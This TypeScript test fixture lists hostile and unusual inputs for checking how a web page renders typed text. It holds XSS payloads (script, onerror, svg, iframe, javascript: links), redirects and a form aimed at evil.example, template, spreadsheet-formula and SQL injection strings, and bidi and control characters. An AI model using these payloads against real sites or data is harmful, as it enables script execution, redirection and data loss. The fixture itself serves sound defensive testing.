/**
 * What people, machines and mischief type. Whatever these would make of a page carries `xss`, so that it is found there even where
 * a policy keeps it from running.
 */
export const oddWords: readonly string[] = [
  '<script class="xss">window.__pwned = 1; alert(1)</script>',
  '"><img class=xss src=x onerror="window.__pwned=2;alert(2)">',
  `' onmouseover='window.__pwned=3' autofocus onfocus='alert(3)' x='`,
  '" onfocus="window.__pwned=4" autofocus class="xss" x="',
  '<svg class=xss onload=window.__pwned=5><animate onbegin=alert(5) attributeName=x></svg>',
  '<a class=xss href="javascript:window.__pwned=6">javascript:alert(6)</a>',
  '<iframe class=xss srcdoc="<script>parent.__pwned=7</script>"></iframe>',
  '</textarea></title></style></script><script class=xss>window.__pwned=8</script>',
  '<!-- --!><img class=xss src=x onerror=alert(9)> <![CDATA[ ]]> -->',
  '<meta class=xss http-equiv=refresh content="0;url=https://evil.example/"><base class=xss href=//evil.example/>',
  '<form class=xss action=https://evil.example/><button>OK</button></form><style class=xss>*{display:none}</style>',
  '&lt;script&gt;alert(10)&lt;/script&gt; &amp;amp; &#60;b&#62; &nbsp;',
  'numéro {reference} le {date}, [facultatif {text}] ${window.__pwned=11} {{constructor.constructor("alert(11)")()}} $& $1 %s',
  '=HYPERLINK("https://evil.example/?"&A1;"cliquez")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1 après une tabulation',
  '\n\nune ligne vide avant,\n  deux espaces,  et une fin   ',
  'العيادة مغلقة منذ أسبوع (3 أيام)؟',
  'ߒߞߏ ߞߊ߲ ߘߐ߫، ߌ ߣߌ߫ ߗߍ߫ 123',
  'vers la droite \u202Eà l’envers\u202C \u2066isolé\u2069 \u200Fpuis plus rien \u202E',
  'famille 👩🏾‍👧🏿 é e\u0301 z\u200Be\u200Cr\u200Do\uFEFF \u00AD',
  'sonnerie \u0007 échappement \u001B[31m suppression \u007F fin \u0001',
  'nul \u0000 au milieu',
  '\'; DROP TABLE cases; -- \\ " OR "1"="1',
  `m${'o'.repeat(300)}t`,
  '1*2#*144# étoiles ** et dièses ##',
]

/** How a page reads what was typed: a line break is one character, and HTML has no letter for nul. */
export const asShown = (typed: string): string => typed.replaceAll(/\r\n?/g, '\n').replaceAll('\u0000', '')
